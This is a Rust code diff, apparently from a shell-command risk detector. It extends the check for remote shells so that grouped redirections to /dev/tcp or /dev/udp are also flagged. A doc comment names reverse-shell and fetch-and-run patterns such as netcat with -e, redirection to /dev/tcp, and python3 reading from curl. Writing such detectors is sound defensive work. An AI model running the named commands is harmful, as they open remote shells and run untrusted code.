@@ -97,7 +97,7 @@ pub(super) fn look(
     kinds.fed(views, groups);
     kinds.files(views, groups);
     kinds.languages(views);
-    kinds.remote(views);
+    kinds.remote(views, groups);
     if line.commands.iter().any(hides)
         || is_braced(line, text)
         || views.iter().any(|it| encoded_powershell(it))
@@ -131,17 +131,17 @@ impl Kinds {
     }
 
     /// `python3 <(curl ...)`, and shells whose ends are on another machine: `nc -e sh host 99`, `sh > /dev/tcp/host/99`.
-    fn remote(&mut self, views: &[View<'_>]) {
+    fn remote(&mut self, views: &[View<'_>], groups: &[Redirected]) {
         for view in views {
             let words = view.command.words.iter().filter(|it| it.source.starts_with("<("));
             for word in words.filter(|_| is_language(&view.name)) {
                 inside(&word.source).into_iter().for_each(|kind| self.add(kind));
             }
             let is_shell = SHELLS.contains(&view.name.as_str());
-            let socket = view
-                .redirects
-                .iter()
-                .any(|(_, file)| file.starts_with("/dev/tcp/") || file.starts_with("/dev/udp/"));
+            let socket =
+                view.redirects.iter().chain(groups).any(|(_, file)| {
+                    file.starts_with("/dev/tcp/") || file.starts_with("/dev/udp/")
+                });
             let hands_over = SOCKETS.contains(&view.name.as_str())
                 && (view.says(HANDING_OVER) || view.args.iter().any(|it| says_exec(it)));
             if (is_shell && socket) || hands_over {
